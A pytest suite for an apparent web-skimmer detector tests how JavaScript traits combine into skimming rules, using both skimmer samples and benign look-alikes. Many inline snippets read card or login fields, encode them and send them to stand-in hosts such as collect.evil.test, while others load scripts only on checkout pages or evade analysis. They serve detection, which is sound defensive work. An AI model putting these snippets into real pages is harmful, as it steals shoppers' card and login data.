"""Tests of the structure layer (tree-sitter traits that combine in one scope).

Every fixture under ``fixtures/structure`` is synthetic, written for these tests.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from skimguard.analyze import structure
from skimguard.analyze.model import Language, Layer, Segment
from skimguard.analyze.normalize import normalize
from skimguard.analyze.structure import (
    TRAITS,
    WINDOW_BYTES,
    js_structure,
    js_traits,
    needs_parse,
    structure_catalog,
    structure_hits,
)
from skimguard.demo import shop
from skimguard.models import Confidence, Severity
from skimguard.testing import skimmers

FIXTURES = Path(__file__).parent / "fixtures" / "structure"


def fixture(name: str) -> str:
    return (FIXTURES / name).read_text(encoding="utf-8")


def generous_limits(monkeypatch: pytest.MonkeyPatch) -> None:
    """Time limits that a loaded CI machine cannot hit (the tests check results, not speed)."""
    monkeypatch.setattr(structure, "PARSE_TIMEOUT_SECONDS", 60.0)
    monkeypatch.setattr(structure, "ANALYSIS_TIMEOUT_SECONDS", 60.0)


def rule_ids(text: str) -> list[str]:
    return sorted(h.rule_id for h in structure_hits(text))


# -- registry and catalog ------------------------------------------------------------------------


def test_traits_registry_is_documented_and_stable() -> None:
    assert [t.name for t in TRAITS] == [
        "reads-card-field",
        "reads-form",
        "reads-personal-field",
        "network-sink",
        "computed-url",
        "encodes-data",
        "checkout-gate",
        "submit-trigger",
        "timer",
        "anti-analysis",
        "staging",
        "dom-injection",
    ]
    assert all(t.description and "\n" not in t.description for t in TRAITS)


def test_catalog_documents_every_rule_once() -> None:
    catalog = structure_catalog()
    assert [r.rule_id for r in catalog] == ["SG440", "SG441", "SG442", "SG443", "SG444", "SG445", "SG446"]
    assert {r.layer for r in catalog} == {Layer.STRUCTURE}
    assert all(r.title and r.description and r.false_positives for r in catalog)
    assert [r.severity for r in catalog] == [
        Severity.CRITICAL,
        Severity.HIGH,
        Severity.HIGH,
        Severity.MEDIUM,
        Severity.MEDIUM,
        Severity.LOW,
        Severity.HIGH,
    ]


# -- skimmers ------------------------------------------------------------------------------------


def test_magecart_image_skimmer() -> None:
    text = fixture("magecart_image.js")
    report = js_traits(text)
    assert report.parsed and report.error is None
    assert report.trait_names == {
        "reads-card-field",
        "encodes-data",
        "network-sink",
        "computed-url",
        "checkout-gate",
        "submit-trigger",
    }
    hits = structure_hits(text)
    assert [h.rule_id for h in hits] == ["SG440"]
    hit = hits[0]
    assert (hit.severity, hit.confidence, hit.layer) == (Severity.CRITICAL, Confidence.HIGH, Layer.STRUCTURE)
    # the smallest scope holding the combination is grab(); the hit points at the sink
    assert hit.explanation == (
        "The function 'grab' at line 3 reads card fields (line 4), sends to a computed URL (line 8) and encodes"
        " data (line 7): the shape of a web skimmer; destination 'https://collect.evil.test/i.gif?d=…'."
    )
    assert (hit.line, hit.column) == (8, 5)
    assert hit.excerpt.startswith("new Image().src = 'https://collect.evil.test/i.gif?d=' + payload;")
    assert hit.traits == ("reads-card-field", "network-sink", "computed-url", "encodes-data")


def test_obfuscated_variant_has_the_same_behaviour() -> None:
    plain = js_traits(fixture("magecart_image.js"))
    obfuscated = fixture("magecart_obfuscated.js")
    assert js_traits(obfuscated).trait_names == plain.trait_names
    hits = structure_hits(obfuscated)
    assert [(h.rule_id, h.severity) for h in hits] == [("SG440", Severity.CRITICAL)]
    # the atob-decoded destination is shown
    assert hits[0].explanation == (
        "The function '_0x9f8e' at line 4 reads card fields (line 4), sends to a decoded URL (line 4) and encodes"
        " data (line 4): the shape of a web skimmer; destination 'https://collect.evil.test/i.gif?d=…'."
    )


def test_websocket_skimmer() -> None:
    text = fixture("websocket.js")
    assert js_traits(text).trait_names == {
        "reads-card-field",
        "submit-trigger",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG440", Severity.HIGH, Confidence.MEDIUM)]
    assert hits[0].line == 9
    assert "wss://ws.evil.test:8443/g" in hits[0].explanation


def test_local_storage_stager() -> None:
    text = fixture("storage_stager.js")
    assert js_traits(text).trait_names == {"reads-card-field", "submit-trigger", "staging", "encodes-data"}
    hits = structure_hits(text)
    assert [h.rule_id for h in hits] == ["SG441"]
    assert hits[0].line == 7
    assert hits[0].excerpt.startswith("localStorage.setItem('_ga_cache'")


def test_fake_form_injector() -> None:
    text = fixture("fake_form.js")
    assert js_traits(text).trait_names == {"dom-injection"}
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity) for h in hits] == [("SG442", Severity.HIGH)]
    assert (hits[0].line, hits[0].column) == (6, 3)


def test_checkout_gated_loader() -> None:
    text = fixture("gated_loader.js")
    assert js_traits(text).trait_names == {"checkout-gate", "network-sink", "computed-url"}
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity) for h in hits] == [("SG443", Severity.MEDIUM)]
    assert "https://cdn.evil.test/a.js" in hits[0].explanation


def test_document_write_loader_behind_a_regexp_gate() -> None:
    text = "if((new RegExp('one|check')).test(window.location)){document.write('<script src=\"https://x.evil.test/m.js\"></scr'+'ipt>')};"
    assert js_traits(text).trait_names == {"checkout-gate", "network-sink", "computed-url"}
    assert rule_ids(text) == ["SG443"]


def test_form_grabber_needs_card_context() -> None:
    grabber = """
    document.querySelector('#place-order').addEventListener('click', function () {
      var data = new FormData(document.querySelector('form'));
      fetch('https://c.evil.test/f', {method: 'POST', body: data});
    });
    """
    assert js_traits(grabber).trait_names == {"submit-trigger", "reads-form", "network-sink", "computed-url"}
    assert rule_ids(grabber) == []  # a form post with no card or checkout context is ordinary
    on_checkout = "if (location.pathname.indexOf('onestep') > -1) {" + grabber + "}"
    assert rule_ids(on_checkout) == ["SG440"]
    on_payment_form = grabber.replace("querySelector('form')", "querySelector('#payment-form')")
    assert rule_ids(on_payment_form) == ["SG440"]


def test_anti_analysis_next_to_card_reading() -> None:
    text = """
    function go() {
      if (navigator.webdriver || window.outerWidth - window.innerWidth > 160) { return; }
      var n = document.getElementsByName('cc_number')[0].value;
      document.cookie = '_s=' + n;
    }
    """
    assert js_traits(text).trait_names == {"anti-analysis", "reads-card-field", "staging"}
    assert rule_ids(text) == ["SG441", "SG444"]


# -- hard negatives ------------------------------------------------------------------------------


def test_payment_sdk_is_only_informational() -> None:
    text = fixture("payment_sdk.js")
    assert js_traits(text).trait_names == {"reads-card-field", "network-sink", "computed-url"}
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG445", Severity.LOW, Confidence.LOW)]
    assert hits[0].explanation == (
        "The function 'tokenize' at line 3 reads card fields (line 5) and has a network sink (line 7);"
        " destination 'https://api.psp.test/v1/tokens'."
    )


def test_card_formatter_with_same_origin_lookup_is_not_convicted() -> None:
    text = fixture("card_formatter.js")
    assert js_traits(text).trait_names == {"reads-card-field", "submit-trigger", "network-sink", "computed-url"}
    assert rule_ids(text) == ["SG445"]


def test_analytics_pixel() -> None:
    text = fixture("analytics.js")
    assert js_traits(text).trait_names == {"network-sink", "computed-url", "encodes-data", "timer"}
    assert rule_ids(text) == []


def test_session_replay_with_masking() -> None:
    text = fixture("session_replay.js")
    assert js_traits(text).trait_names == {
        "reads-form",
        "submit-trigger",
        "timer",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    assert rule_ids(text) == []


def test_checkout_validation_with_redirect_is_not_convicted() -> None:
    text = """
    document.getElementById('checkout').addEventListener('submit', function (e) {
      var number = document.getElementById('cc_number').value.replace(/\\s/g, '');
      if (!luhn(number)) { e.preventDefault(); return; }
      window.location.href = window.checkoutConfig.successUrl + '?order=' + window.checkoutConfig.orderId;
    });
    """
    assert js_traits(text).trait_names == {"submit-trigger", "reads-card-field", "network-sink", "computed-url"}
    assert rule_ids(text) == ["SG445"]


def test_masking_card_fields_is_not_reading_them() -> None:
    text = """
    (function (endpoint) {
      var events = [];
      document.querySelectorAll('[autocomplete^="cc-"], input[name*=card]').forEach(function (el) {
        el.setAttribute('data-private', '1');
      });
      document.addEventListener('input', function (e) {
        events.push({ id: e.target.id, v: e.target.value.replace(/./g, '*') });
      });
      setInterval(function () { navigator.sendBeacon(endpoint, JSON.stringify(events.splice(0))); }, 5000);
    })(window.REPLAY_ENDPOINT);
    """
    assert "reads-card-field" not in js_traits(text).trait_names
    assert rule_ids(text) == []


@pytest.mark.parametrize(
    "code",
    [
        "var cc = $('#cc_number'); $('form').on('submit', function () { post(cc.val()); });",
        "$('#cc_number').on('change', function () { post($(this).val()); });",
        "[].forEach.call(document.querySelectorAll('[name*=cc]'), function (el) { post(el.value); });",
        "var f = document.querySelector('#cc_cid'); f.addEventListener('blur', function () { post(f.value); });",
        "post($('#cc_number')[0].value);",
        "post($('#cc_number').first().val());",
    ],
)
def test_card_reads_through_variables_and_callbacks(code: str) -> None:
    assert "reads-card-field" in js_traits(code + " fetch(u)").trait_names


def test_minified_fetch_without_field_reads() -> None:
    text = fixture("minified_fetch.js")
    assert js_traits(text).trait_names == {"network-sink", "computed-url", "timer"}
    assert rule_ids(text) == []


def test_relative_literal_url_is_not_computed() -> None:
    text = "function s(){ var v = document.getElementById('cc_number').value; fetch('/api/pay'); }"
    report = js_traits(text)
    assert report.trait_names == {"reads-card-field", "network-sink"}
    assert rule_ids(text) == ["SG445"]


# -- field vocabulary ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "read",
    [
        "document.forms[0].elements['payment[cc_number]'].value",
        "document.querySelector('input[placeholder=\"カード番号\"]').value",
        "document.querySelector('#security_code').value",
        "$('input[name*=card]').val()",
        "document.querySelector('[autocomplete=\"cc-exp\"]').value",
        "form.cc_cid.value",
    ],
)
def test_card_field_reads(read: str) -> None:
    assert js_traits(f"function f(form) {{ return {read}; }} fetch(x)").trait_names == {
        "reads-card-field",
        "network-sink",
        "computed-url",
    }


@pytest.mark.parametrize(
    ("sink", "kind"),
    [
        ("var l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'https://x.evil.test/?' + d;", "link"),
        ("var es = new EventSource('https://x.evil.test/s?d=' + d);", "eventsource"),
        ("var i = document.createElement('img'); i.setAttribute('src', '//x.evil.test/p?d=' + d);", "img"),
        ("navigator.sendBeacon('https://x.evil.test/b', d);", "beacon"),
        ("$.post('https://x.evil.test/p', {d: d});", "jquery"),
        ("var x = new XMLHttpRequest(); x.open('POST', 'https://x.evil.test/x'); x.send(d);", "xhr"),
        ("new RTCPeerConnection({iceServers: [{urls: 'stun:x.evil.test'}]});", "webrtc"),
    ],
)
def test_exfiltration_sinks(sink: str, kind: str) -> None:
    text = "function s() { var d = btoa(document.querySelector('#cc_number').value); " + sink + " }"
    assert js_traits(text).trait_names == {"reads-card-field", "encodes-data", "network-sink", "computed-url"}, kind
    assert rule_ids(text) == ["SG440"], kind


def test_anchor_href_is_not_a_sink() -> None:
    text = "function s() { var d = document.querySelector('#cc_number').value; a.href = 'https://help.test/?' + q; }"
    report = js_traits(text)
    assert report.parsed
    assert report.trait_names == {"reads-card-field"}


def test_hex_encoding_loop_counts_as_encoding() -> None:
    text = (
        "function h(s) { var o = ''; for (var i = 0; i < s.length; i++) o += s.charCodeAt(i).toString(16);"
        " return o; } fetch(x.value)"
    )
    assert "encodes-data" in js_traits(text).trait_names


def test_personal_field_read() -> None:
    text = "var e = document.querySelector('#billing-email').value; fetch('/x')"
    assert js_traits(text).trait_names == {"reads-personal-field", "network-sink"}


def test_trait_positions_are_one_based_characters() -> None:
    text = "var s = 'é';\n  fetch(u + s);\nvar v = q.value;\n"
    report = js_traits(text)
    sink = next(t for t in report.traits if t.trait == "network-sink")
    assert (sink.line, sink.column) == (2, 3)
    assert sink.excerpt == "fetch(u + s); var v = q.value;"
    assert len(max((t.excerpt for t in report.traits), key=len)) <= 120


# -- scopes --------------------------------------------------------------------------------------


def test_nested_listener_counts_for_the_gating_function() -> None:
    text = """
    function gate() {
      if (location.href.indexOf('checkout') !== -1) {
        document.addEventListener('submit', function steal() {
          var n = document.querySelector('#cc_number').value;
          navigator.sendBeacon('https://b.evil.test/c', n);
        });
      }
    }
    """
    report = js_traits(text)
    scopes = {s.name: s for s in report.scopes}
    assert scopes["gate"].names == {
        "checkout-gate",
        "submit-trigger",
        "reads-card-field",
        "network-sink",
        "computed-url",
    }
    assert scopes["steal"].names == {"reads-card-field", "network-sink", "computed-url"}
    assert [s.kind for s in report.scopes] == ["program", "function", "function"]
    hits = structure_hits(text)
    # SG440 needs an aggravator: the smallest scope with one is gate(), not steal()
    assert [h.rule_id for h in hits] == ["SG440"]
    assert hits[0].explanation.startswith("The function 'gate' at line 2")
    assert hits[0].severity is Severity.CRITICAL


def test_spread_out_traits_in_a_large_scope_do_not_combine() -> None:
    core_read = "var n = document.querySelector('#cc_number').value;\n"
    core_send = "if (/checkout/.test(location.href)) { new Image().src = 'https://x.evil.test/?' + btoa(n); }\n"
    filler = "".join(f"var x{i} = {i};\n" for i in range(WINDOW_BYTES // 8))
    assert rule_ids(core_read + core_send) == ["SG440"]
    spread = core_read + filler + core_send
    assert len(spread) > WINDOW_BYTES
    assert js_traits(spread).trait_names == {
        "reads-card-field",
        "checkout-gate",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    assert rule_ids(spread) == []


def test_js_structure_matches_both_functions() -> None:
    text = fixture("websocket.js")
    report, hits = js_structure(text)
    assert report == js_traits(text)
    assert hits == structure_hits(text)


# -- prefilter and bounds ------------------------------------------------------------------------


def test_prefilter_skips_a_large_bundle_without_field_tokens() -> None:
    bundle = "function add(a, b) { return a + b; }\nvar total = add(1, 2) * 3;\n" * 17000
    assert len(bundle) > 1024 * 1024
    assert not needs_parse(bundle)
    started = time.perf_counter()
    report = js_traits(bundle)
    assert time.perf_counter() - started < 0.2
    assert report == structure.StructureReport(parsed=False)
    assert structure_hits(bundle) == []


def test_prefilter_needs_both_kinds_of_token() -> None:
    assert not needs_parse("fetch(u)")
    assert not needs_parse("var v = x.value;")
    assert needs_parse("fetch(u, x.value)")
    assert needs_parse("\\x66" * 30)  # dense escapes may hide both


def test_too_large_text_is_cut(monkeypatch: pytest.MonkeyPatch) -> None:
    generous_limits(monkeypatch)
    head = "var n = document.querySelector('#cc_number').value; fetch('https://x.test/' + n);\n"
    text = head + "var pad = 1;\n" * (structure.MAX_PARSE_BYTES // 13)
    report = js_traits(text)
    assert report.parsed
    assert report.error == "too large: first 2 MiB analysed"
    assert {"reads-card-field", "network-sink"} <= report.trait_names


def test_parse_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(structure, "PARSE_TIMEOUT_SECONDS", 0.0)
    text = "var v = a.value; fetch(b);\n" * 40000
    report = js_traits(text)
    assert report == structure.StructureReport(parsed=False, error="parse timeout after 0 s")
    assert structure_hits(text) == []


def test_analysis_timeout(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(structure, "ANALYSIS_TIMEOUT_SECONDS", 0.0)
    report = js_traits("var v = a.value; fetch(b);\n" * 2000)
    assert report.parsed
    assert report.error == "analysis timeout after 0 s"


def test_parse_error_rate_is_reported() -> None:
    report = js_traits("<?php echo $value; fetch ?> <<<>>> ::: }}} {{{ ))) ((( ### @@@ " * 20)
    assert report.parsed
    assert report.error is not None and report.error.startswith("parse errors in ")


def test_twenty_thousand_nested_parentheses(monkeypatch: pytest.MonkeyPatch) -> None:
    generous_limits(monkeypatch)
    text = "var v = a.value; x = " + "(" * 20000 + "fetch(u)" + ")" * 20000 + ";"
    report = js_traits(text)
    assert report.parsed and report.error is None
    assert report.trait_names == {"network-sink", "computed-url"}


def test_twenty_thousand_nested_functions(monkeypatch: pytest.MonkeyPatch) -> None:
    generous_limits(monkeypatch)
    core = (
        "if (/checkout/.test(location.href)) { var n = document.querySelector('#cc_number').value;"
        " new Image().src = 'https://x.evil.test/?' + btoa(n); }"
    )
    text = "(function(){" * 20000 + core + "})();" * 20000
    report, hits = js_structure(text)
    assert report.parsed and report.error is None
    assert len(report.scopes) == 5000  # reported scopes are capped
    assert [h.rule_id for h in hits] == ["SG440"]
    assert hits[0].line == 1


@pytest.mark.parametrize(
    "text",
    [
        "fetch(u)" + ".then(f)" * 5000 + "; x.value",
        "a" + ".b()" * 5000 + "; fetch(x.value)",
        "var x = new XMLHttpRequest(); " + "x.onload = function () {};" * 3000 + " x.open('POST', u); q.value",
    ],
)
def test_long_call_chains_stay_bounded(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    generous_limits(monkeypatch)
    report = js_traits(text)
    assert report.parsed and report.error is None
    assert report.trait_names == {"network-sink", "computed-url"}


def test_deep_string_concatenation_stays_bounded() -> None:
    text = "var u = " + " + ".join(["'a'"] * 20000) + "; fetch(u, x.value);"
    report = js_traits(text)
    assert report.trait_names == {"network-sink", "computed-url"}


@pytest.mark.parametrize(
    "text",
    [
        "var s = '\\x'; var t = '\\u{zz}' + '\\u12'; fetch(s + t, a.value);",
        "fetch(String.fromCharCode(1e400), a.value); atob('%%%'); x[0x](a.value)",
        "var a = ['\\ud800']; fetch(a[0], b.value); fetch(a[99999999999999999999], c.value)",
        "<?php echo $value; ?> <script>fetch(x.value)</script>",
        "",
    ],
)
def test_hostile_fragments_do_not_raise(text: str) -> None:
    report, hits = js_structure(text)
    assert isinstance(report.parsed, bool)
    assert all(h.rule_id in {"SG440", "SG441", "SG442", "SG443", "SG444", "SG445", "SG446"} for h in hits)


# -- reads through helper functions --------------------------------------------------------------


def test_card_read_through_a_selector_helper() -> None:
    text = fixture("helper_reader.js")
    assert js_traits(text).trait_names == {
        "reads-card-field",
        "submit-trigger",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG440", Severity.CRITICAL, Confidence.HIGH)]
    # read(_s[0]) in send() is where the card is read
    assert hits[0].explanation == (
        "The function 'send' at line 10 reads card fields (line 11) and sends to a decoded URL (line 13): the shape"
        " of a web skimmer; destination 'https://img.cdn-stat.test/p.gif?v=…'."
    )


def test_card_read_through_an_element_helper() -> None:
    text = fixture("helper_element.js")
    report = js_traits(text)
    card = next(t for t in report.traits if t.trait == "reads-card-field")
    assert (card.line, card.column) == (5, 18)
    assert card.excerpt.startswith("pick(d.getElementById('cc_number'))")
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG440", Severity.HIGH, Confidence.MEDIUM)]
    assert "api.metrics-edge.test" in hits[0].explanation


@pytest.mark.parametrize(
    "code",
    [
        "function v(q){var e=d.querySelector(q);return e&&e.value?e.value:''} function z(){post(v('#cc_number'))}",
        "var v=function(q){return document.getElementById(q).value}; function z(){post(v('cc_number'))}",
        "const v = q => document.querySelector(q).value; function z(){ post(v('[autocomplete=cc-csc]')) }",
        "const v = (q) => { const n = document.getElementsByName(q)[0]; return n.value; }; post(v('payment[cc_cid]'))",
        "function v(s){return $(s).val()} post(v('#card-number'))",
        "function v(id){return $('#'+id).val()} post(v('cc_number'))",
        "function v(n){return document.querySelector(`[name=\"${n}\"]`).value} post(v('cc_exp'))",
        "function v(f,n){return f.elements[n].value} post(v(form, 'cc_number'))",
        "function v(n){return form.elements.namedItem(n).value} post(v('card_cvc'))",
        "var K=['#x','#cc_number']; function v(q){return document.querySelector(q).value} post(v(K[1]))",
        "var SEL='#cvv'; function v(q){return document.querySelector(q).value} post(v(SEL))",
        "var S={n:'#cc_number'}; function v(q){return document.querySelector(q).value} post(v(S.n))",
        "var S={'n':'#x','c':'#cc_cid'}; function v(q){return document.querySelector(q).value} post(v(S['c']))",
        "function g(el){return el.value} post(g(document.getElementById('cc_number')))",
        "const g = el => el.value; post(g($('#cc_number')[0]))",
        "function g(el){return $(el).val()} var f=document.querySelector('#cc_cid'); post(g(f))",
        "function g(el){return el['value']} post(g(document.getElementsByName('cc_cvv')[0]))",
        "post(v('#cc_number')); function v(q){var e=document.querySelector(q);return e.value}",  # hoisted
    ],
)
def test_card_reads_through_helpers(code: str) -> None:
    assert "reads-card-field" in js_traits(code + "; fetch(u)").trait_names


@pytest.mark.parametrize(
    "code",
    [
        # the helper queries its parameter but never reads a value (masking, focusing, clearing)
        "function h(q){document.querySelector(q).setAttribute('data-private','1')} h('#cc_number')",
        "function c(q){document.querySelector(q).value=''} c('#cc_number')",
        "document.querySelector('#cc_number').value = ''",
        "function g(el){el.value=''} g(document.getElementById('cc_number'))",
        # the helper reads a value, but not of the field it is handed
        "function v(q){var e=document.querySelector(q);return other.value} v('#cc_number')",
        # a card-ish literal handed to a function that is not a field reader
        "function t(k){return labels[k]} function v(q){return document.querySelector(q).value} t('cc_number')",
        # an unknown callee and a shadowing parameter are not followed
        "v('#cc_number')",
        "function v(q){return document.querySelector(q).value} function w(v){v('#cc_number')}",
    ],
)
def test_helpers_that_do_not_read_the_card(code: str) -> None:
    assert "reads-card-field" not in js_traits(code + "; fetch(u)").trait_names


def test_demo_tampered_vendor_script() -> None:
    clean = shop.FORMASSIST_JS
    tampered = shop.FORMASSIST_JS + shop._fill(shop.FORMASSIST_SKIMMER, port=1)
    assert structure_hits(clean) == []
    assert js_traits(tampered).trait_names == {
        "reads-card-field",
        "submit-trigger",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    hits = structure_hits(tampered)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG440", Severity.CRITICAL, Confidence.HIGH)]
    assert "http://collect.evil.test:1/i.gif?d=" in hits[0].explanation


# -- tokenisers (direct-post payment integrations) -----------------------------------------------


def test_demo_checkout_tokeniser_is_only_informational() -> None:
    text = shop._fill(shop.CHECKOUT_JS, port=1)
    assert js_traits(text).trait_names == {
        "reads-card-field",
        "reads-form",
        "submit-trigger",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.line) for h in hits] == [("SG445", Severity.LOW, 18)]
    assert hits[0].excerpt.startswith('fetch(TOKEN_URL, {method: "POST"')


@pytest.mark.parametrize(
    "text",
    [
        skimmers._fill(skimmers.PAY_JS, port=1, processing_ms=9),  # the skimmer lab's own checkout
        skimmers.case_script("benign-psp-fields", 1),  # the PSP's script: v('[autocomplete=cc-number]') on click
    ],
)
def test_lab_tokenisers_are_only_informational(text: str) -> None:
    assert [(h.rule_id, h.severity) for h in structure_hits(text)] == [("SG445", Severity.LOW)]


def test_tokeniser_with_a_configured_url_is_only_informational() -> None:
    hits = structure_hits(fixture("tokenizer.js"))
    assert [(h.rule_id, h.severity, h.line) for h in hits] == [("SG445", Severity.LOW, 11)]


CONFIGURED = "(window.PAY_CONFIG || {}).tokenEndpoint"
FALLBACK = " || 'https://tokens.psp.test/v2/cards'"


@pytest.mark.parametrize(
    ("old", "new", "expected"),
    [
        # the same tokeniser, one thing different each time: convicted at high or critical
        ("fetch(endpoint,", "setTimeout(function(){}, 9); fetch(endpoint,", ("SG440", Severity.HIGH)),
        ("fetch(endpoint,", "fetch(endpoint + '?c=' + card.pan,", ("SG440", Severity.HIGH)),  # a built URL
        ("JSON.stringify(card)", "encodeURIComponent(JSON.stringify(card))", ("SG440", Severity.HIGH)),
        (
            "document.getElementById('checkout-form').addEventListener('submit', ",
            "setInterval(",
            ("SG440", Severity.HIGH),
        ),
        ("JSON.stringify(card)", "btoa(JSON.stringify(card))", ("SG440", Severity.CRITICAL)),
        ("(window.PAY_CONFIG || {})", "{tokenEndpoint: 'https://c.evil.test/'}", ("SG440", Severity.HIGH)),
        (CONFIGURED, "window.location.href", ("SG440", Severity.HIGH)),
        (FALLBACK, " || atob('aHR0cHM6Ly9jLmV2aWwudGVzdC8=')", ("SG440", Severity.HIGH)),  # not a plain fallback
        (FALLBACK, " || window.u; window.u = 'https://c.evil.test/'", ("SG440", Severity.HIGH)),
        (
            "var endpoint",
            "window.PAY_CONFIG = {tokenEndpoint: '//c.evil.test/'}; var endpoint",
            ("SG440", Severity.HIGH),
        ),
        ("var card = { pan", "var card = new FormData(ev.target), c = { pan", ("SG440", Severity.HIGH)),
        (  # no response to use: not a tokeniser
            "fetch(endpoint, { method: 'POST', body: JSON.stringify(card) })",
            "navigator.sendBeacon(endpoint, JSON.stringify(card))",
            ("SG440", Severity.HIGH),
        ),
        ("exp: field('card_exp')", "exp: field('card_exp'), mail: field('billing_email')", ("SG440", Severity.HIGH)),
        # ... or still a tokeniser
        ("exp: field('card_exp')", "exp: field('card_exp'), zip: field('billing_postcode')", ("SG445", Severity.LOW)),
        (CONFIGURED + " || ", "", ("SG445", Severity.LOW)),  # a plain literal URL
        (
            "return r.json();",
            "setTimeout(function () { location.href = '/done?t=' + encodeURIComponent(r.id); }, 9);",
            ("SG445", Severity.LOW),
        ),  # after the response
        ("var endpoint", "var cfg = window.PAY_CONFIG || {}; var endpoint", ("SG445", Severity.LOW)),
        (CONFIGURED + FALLBACK, "this.options.url", ("SG445", Severity.LOW)),
        (FALLBACK, "", ("SG445", Severity.LOW)),
    ],
)
def test_what_separates_a_tokeniser_from_a_skimmer(old: str, new: str, expected: tuple[str, Severity]) -> None:
    text = fixture("tokenizer.js")
    assert old in text
    hits = structure_hits(text.replace(old, new, 1))
    assert [(h.rule_id, h.severity) for h in hits] == [expected]


# -- personal and login data (SG446) -------------------------------------------------------------


def test_registration_skimmer() -> None:
    text = fixture("register_skimmer.js")
    assert js_traits(text).trait_names == {
        "reads-personal-field",
        "submit-trigger",
        "network-sink",
        "computed-url",
        "encodes-data",
    }
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG446", Severity.HIGH, Confidence.MEDIUM)]
    assert (hits[0].line, hits[0].column) == (8, 5)
    assert hits[0].explanation == (
        "The function at line 6 reads personal fields (line 7), sends to a computed URL (line 8) and encodes data"
        " (line 8): the shape of a login/registration skimmer; destination 'https://fonts-cache.test/r.png?k=…'."
    )


def test_demo_registration_skimmer() -> None:
    text = shop._fill(shop.REGISTER_SKIMMER, port=1).replace("<script>", "").replace("</script>", "")
    hits = structure_hits(text)
    assert [(h.rule_id, h.severity, h.confidence) for h in hits] == [("SG446", Severity.HIGH, Confidence.MEDIUM)]
    assert "http://collect.evil.test:1/r.gif?q=" in hits[0].explanation


def test_email_only_tag_is_not_a_registration_skimmer() -> None:
    text = fixture("newsletter.js")
    assert "reads-personal-field" in js_traits(text).trait_names
    assert rule_ids(text) == []


@pytest.mark.parametrize(
    "send",
    [
        "fetch('https://api.shop.test/login', {method: 'POST', body: JSON.stringify(who)});",  # JSON only
        "fetch('/account/login', {method: 'POST', body: btoa(JSON.stringify(who))});",  # the shop's own path
        "location.href = 'https://sso.test/?d=' + btoa(JSON.stringify(who));",  # a redirect, not a request
        "var h = 0; for (var i = 0; i < p.length; i++) h = (h << 5) ^ p.charCodeAt(i);"
        " new Image().src = 'https://x.test/?h=' + h;",  # hashed
    ],
)
def test_login_forms_that_are_not_skimmers(send: str) -> None:
    text = (
        "document.getElementById('login').addEventListener('submit', function () {"
        " var p = document.getElementById('password').value;"
        " var who = {u: document.getElementById('username').value, p: p}; " + send + " });"
    )
    assert "reads-personal-field" in js_traits(text).trait_names
    assert rule_ids(text) == []


# -- control-flow flattening (issue 4) ----------------------------------------------------------


def test_a_flattened_skimmer_is_seen_as_written_and_as_reordered(monkeypatch: pytest.MonkeyPatch) -> None:
    generous_limits(monkeypatch)
    code = fixture("flattened_skimmer.js")
    # as written: every statement is in the function, in case order; the combination is found
    assert [(h.rule_id, h.severity) for h in structure_hits(code)] == [("SG440", Severity.CRITICAL)]
    reordered = normalize(Segment(Language.JS, code))
    assert reordered.steps == ("bracket-member", "control-flow")
    assert "continue" not in reordered.text and "switch" not in reordered.text
    lines = [line.strip()[:14] for line in reordered.text.splitlines()]
    start = lines.index("var _0x3e8f = ") + 1
    assert lines[start : start + 6] == [
        "{",
        "if (!/onestepc",
        "var number = d",
        "var cvv = docu",
        "return navigat",
        "}",
    ]
    assert [(h.rule_id, h.severity) for h in structure_hits(reordered.text)] == [("SG440", Severity.CRITICAL)]


# -- the cheaper paths see what the full ones see --------------------------------------------------


def test_card_words_hidden_in_escaped_literals_give_card_context() -> None:
    grabber = """
    var w = ['%s'];
    document.querySelector('#place-order').addEventListener('click', function () {
      var data = new FormData(document.querySelector('form'));
      fetch('https://c.evil.test/f', {method: 'POST', body: data});
    });
    """
    assert rule_ids(grabber % "plain") == []
    # "cvv" and "カード" behind \\x, \\u, \\u{}, octal escapes and a line continuation, "ſecurity code"
    # (the long s folds to "s"): each literal alone gives the form grab its card context
    for hidden in ("\\x63\\u0076\\u{76}", "\\143\\\nvv", "\\u30ab\\u30fc\\u30c9", "\u017fecurity code"):
        assert rule_ids(grabber % hidden) == ["SG440"], hidden


def test_escaped_selectors_and_strings_with_parse_errors() -> None:
    code = (
        "document.querySelector('#co').addEventListener('submit', function () {"
        " var n = document.querySelector('\\x23\\u0063c_\\u{6E}um\\142er').value;"
        " new Image().src = 'https://evil.test/c?d=' + btoa(n); });"
    )
    plain = code.replace("\\x23\\u0063c_\\u{6E}um\\142er", "#cc_number")
    assert [(h.rule_id, h.severity) for h in structure_hits(code)] == [
        (h.rule_id, h.severity) for h in structure_hits(plain)
    ]
    assert "reads-card-field" in js_traits(code).trait_names
    # structure_hits skips the per-scope report; the hits are those of js_structure
    assert structure_hits(code) == js_structure(code)[1]
    # strings that hold parse errors are walked into: their error bytes count
    broken = ("var e = ['a\\u{zz}b " + "x" * 30 + "', '\\u12'];\n") * 40 + plain
    report = js_traits(broken)
    assert report.parsed and report.error == "parse errors in 64% of the text"
    assert rule_ids(broken) == ["SG440"]
